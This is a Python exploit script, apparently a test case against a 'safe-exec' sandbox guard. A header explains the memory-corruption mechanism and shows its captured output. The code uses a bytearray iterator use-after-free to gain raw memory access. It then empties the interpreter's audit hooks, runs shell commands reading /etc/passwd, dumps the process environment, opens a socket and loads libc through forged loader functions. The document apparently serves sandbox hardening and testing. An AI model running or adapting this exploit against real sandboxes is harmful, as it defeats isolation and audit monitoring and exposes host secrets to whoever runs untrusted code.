# family: wall (the guard reached: a wall function's __builtins__ dict)   goal: id   interpreter: /usr/bin/python3   plain: site
#   reached by function.__builtins__ (no audit event) -> raw memory -> audit hook list emptied
#
# Family: the patched types (wall_patch_type) / state the wall depends on that the program
#   reaches and changes.
# Mechanism: wall_guard_iterators binds iter_reduce with globals
#   own = {"__builtins__": {"iter": iter, "reversed": reversed}} so that the original C
#   __reduce__, which looks `iter` up in its CALLER's builtins, finds the wall's dict and
#   not the program's. But `type(iter(bytearray())).__reduce__` is that Python function
#   object, and its `__builtins__` member (new in 3.10, a plain READONLY member, no audit
#   event, not in the checker's way here: checker off) is that very dict, mutable and
#   shared by all nine patched iterator types. The program plants a str-subclass key
#   hashed like "iter" in it: wall8 ok_02's attack works again unchanged. The key's __eq__
#   runs inside _PyEval_GetBuiltin("iter") after __reduce__ has read it_seq, exhausts the
#   iterator (the bytearray freed: 64-byte block), refills the block with a 57-byte
#   bytearray buffer holding a fake PyByteArrayObject (ob_size 2**62, ob_start NULL);
#   __reduce__ returns (iter, (fake,), 0). Then the hook list is emptied (as wall8 ok_01).
# Goals reached: audit hook removed; `id`; /etc/passwd; environment (/proc/self/environ);
#   AF_INET socket; entrypoint frames and globals; native library (ctypes + libc).
# Plain python3 (image's 3.11.2): the same primitive through the program's own builtins
#   dict is X42 (works, first try); under plain python the __reduce__ is the C
#   method descriptor (no __builtins__): the program falls back to its own builtins
#   there, and in the sandbox when the wall refuses the function's builtins.
# Deterministic: first try in 3 of 3 sb-run runs.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r9; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 75 ms, cpu 36 ms, memory peak 23436 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=2e1cb3f4c597 LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 7 getuid() = 10001
#   --- stderr (0 bytes)
#
import sys
import asyncio   # its preload part brings socket (and _socket) before the run
os = sys.modules["os"]
def raw_memory():
    """(Through the wall's own builtins dict.) A list/bytearray iterator's __reduce__ (gh-101765, fixed in 3.11.3) reads its
    it_seq before it looks "iter" up in the builtins of the running frame; the program's
    builtins are its own dict: a str-subclass key hashed like "iter" runs __eq__ inside
    that lookup, exhausts the iterator (the bytearray, held by it alone, is freed) and
    takes the freed 64-byte block back with a bytearray buffer holding a fake bytearray
    header (length 2**62, data at address 0). __reduce__ returns (iter, (fake,), 0)."""
    # The wall's iter_reduce runs the original C __reduce__ from a frame whose
    # builtins are the wall's own dict {iter, reversed}: function.__builtins__ (no
    # event in 3.11) hands out that very dict, shared by every patched iterator type.
    # Under plain python3 __reduce__ is the C method (no __builtins__): the same bug is
    # reached through the program's own builtins dict (tests/wall/attacks/X42).
    try:
        B = type(iter(bytearray())).__reduce__.__builtins__
    except AttributeError:
        B = __builtins__ if type(__builtins__) is dict else __builtins__.__dict__
    W = lambda v: v.to_bytes(8, "little")
    fake = W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
    holder = [bytearray()]
    out = {}
    class Key(str):
        def __hash__(self): return hash("iter")
        def __eq__(self, other):
            if "it" in out:
                it = out.pop("it")
                for _ in it: pass      # exhausted: it_seq cleared, the bytearray freed
                holder[0] += fake      # a 57-byte buffer: the freed block, a fake header
            return str.__eq__(self, other)
    B[Key("iter")] = B.pop("iter")
    seq = bytearray(b"ab")
    it = iter(seq); del seq
    out["it"] = it
    r = it.__reduce__()
    B["iter"] = B.pop("iter")          # an exact key again
    holder.append(r)
    keep.append(holder)
    return r[1][0]
keep = []
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(raw_memory)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
